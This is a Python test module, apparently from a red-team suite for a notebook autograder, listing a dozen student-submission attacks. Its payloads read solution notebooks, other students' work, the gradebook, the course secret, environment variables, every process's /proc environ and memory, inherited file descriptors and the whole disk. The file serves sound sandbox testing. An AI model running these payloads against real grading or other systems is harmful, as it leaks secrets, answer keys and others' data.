"""Reading what is none of a student's business."""

from dataclasses import replace

from tests.redteam.attack import Attack, dedent

FAMILY = "reading"

# Takes the answer from a notebook: whatever it prints must not reach the student's page either.
_TAKE = """
    import glob, json, os

    def take(paths):
        for path in paths:
            try:
                text = open(path, encoding="utf-8").read()
            except OSError:
                continue
            print(path, text[:20000])
            if path.endswith(".ipynb"):
                for cell in json.loads(text)["cells"]:
                    source = "".join(cell["source"])
                    if "def double" in source and "return 0" not in source:
                        exec(source, globals())
                        return

    def double(x):
        return 0
"""

_ATTACKS = (
    Attack(
        "solution-by-relative-path",
        FAMILY,
        "reads the solution notebook from the folders above its own",
        answers={
            "double": _TAKE
            + """
    take(path for n in range(1, 7) for folder in ("source", "solutions", "release")
         for path in glob.glob("../" * n + folder + "/*/*.ipynb"))
            """
        },
    ),
    Attack(
        "solution-by-absolute-path",
        FAMILY,
        "reads the solution notebook where the course lies",
        answers={
            "double": _TAKE
            + """
    take(glob.glob("@COURSE@/s*/tiny/tiny.ipynb") + glob.glob("@COURSE@/solutions/*/*.py"))
            """
        },
    ),
    Attack(
        "other-submission",
        FAMILY,
        "copies the answers that another student handed in",
        answers={
            "double": _TAKE
            + """
    take(glob.glob("@COURSE@/grading/*/bob/tiny/*.ipynb")
         + glob.glob("@COURSE@/*/bob/tiny/*.ipynb") + glob.glob("../../bob/tiny/*.ipynb"))
            """
        },
    ),
    Attack(
        "gradebook-read",
        FAMILY,
        "prints the gradebook",
        answers={
            "double": """
                import sqlite3

                def double(x):
                    for path in ("@COURSE@/grading/gradebook.db", "@COURSE@/gradebook.db"):
                        print(open(path, "rb").read()[-30000:])
                    return 0
            """
        },
    ),
    Attack(
        "secret",
        FAMILY,
        "prints the course's secret, from which the hidden inputs are made",
        answers={
            "double": """
                print(open("@COURSE@/grading/secret").read())

                def double(x):
                    return 0
            """
        },
    ),
    Attack(
        "environment",
        FAMILY,
        "prints every environment variable",
        answers={
            "double": """
                import os

                def double(x):
                    print(dict(os.environ))
                    return 0
            """
        },
    ),
    Attack(
        "proc",
        FAMILY,
        "prints the environment, the command line and the working folder of every process",
        answers={
            "double": """
                import glob, os

                def double(x):
                    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/*/cmdline"):
                        try:
                            print(path, open(path, "rb").read())
                            print(os.listdir(os.path.dirname(path) + "/cwd"))
                        except OSError:
                            pass
                    return 0
            """
        },
    ),
    Attack(
        "parent-s-memory",
        FAMILY,
        "searches its parent processes' memory for the canaries",
        answers={
            "double": """
                import os, re

                def double(x):
                    word = b"can" + b"ary-of-[a-z-]+"
                    for pid in {1, os.getppid()} - {os.getpid()}:
                        try:
                            maps = open(f"/proc/{pid}/maps").read()
                            memory = open(f"/proc/{pid}/mem", "rb", 0)
                        except OSError:
                            continue
                        for line in maps.splitlines()[:400]:
                            low, high = (int(n, 16) for n in line.split()[0].split("-"))
                            try:
                                memory.seek(low)
                                print(re.findall(word, memory.read(min(high - low, 2**26))))
                            except (OSError, ValueError, OverflowError):
                                pass
                    return 0
            """
        },
    ),
    Attack(
        "inherited-files",
        FAMILY,
        "reads every file that was left open for it, and the links that lead to them",
        answers={
            "double": """
                import os

                def double(x):
                    for name in os.listdir("/proc/self/fd"):
                        try:
                            print(name, os.readlink(f"/proc/self/fd/{name}"))
                            if int(name) > 2:
                                print(os.pread(int(name), 10000, 0))
                        except OSError:
                            pass
                    return 0
            """
        },
    ),
    Attack(
        "whole-disk",
        FAMILY,
        "walks over the whole disk for notebooks, gradebooks and secrets, and prints them",
        answers={
            "double": """
                import os, time

                def double(x):
                    end, word = time.monotonic() + 8, b"canary" + b"-of-"
                    for where, folders, files in os.walk("/"):
                        if where == "/":
                            folders[:] = [f for f in folders if f not in ("proc", "sys", "dev")]
                        if time.monotonic() > end:
                            break
                        for name in files:
                            if name.endswith((".ipynb", ".db", "secret")):
                                try:
                                    content = open(os.path.join(where, name), "rb").read(10**6)
                                except OSError:
                                    continue
                                if word in content:
                                    print(where, name, content[:5000])
                    return 0
            """
        },
    ),
    Attack(
        "grader-s-own-code",
        FAMILY,
        "imports the grader, to read its reference solutions and answer banks",
        answers={
            "double": """
                def double(x):
                    import autograder, os
                    here = os.path.dirname(autograder.__file__)
                    print("read the canary-of-the-grader", os.listdir(here))
                    return 0
            """
        },
    ),
    Attack(
        "folders-of-the-run",
        FAMILY,
        "lists the folders of kernels and of temporary files, and what lies in them",
        answers={
            "double": """
                import glob, os, tempfile

                def double(x):
                    folders = {tempfile.gettempdir(), "/tmp", "/run", "/var/tmp", os.getcwd()}
                    for folder in folders:
                        for path in glob.glob(folder + "/*") + glob.glob(folder + "/*/*.json"):
                            print(path)
                            try:
                                print(open(path).read()[:2000])
                            except (OSError, UnicodeDecodeError):
                                pass
                    return 0
            """
        },
    ),
)

# Read while the answer is defined, too, where the output is kept with its cell.
_NOW = """

try:
    double(1)
except Exception as error:
    print(error)
"""

ATTACKS = tuple(
    replace(attack, answers={"double": dedent(attack.answers["double"]) + _NOW})
    for attack in _ATTACKS
)
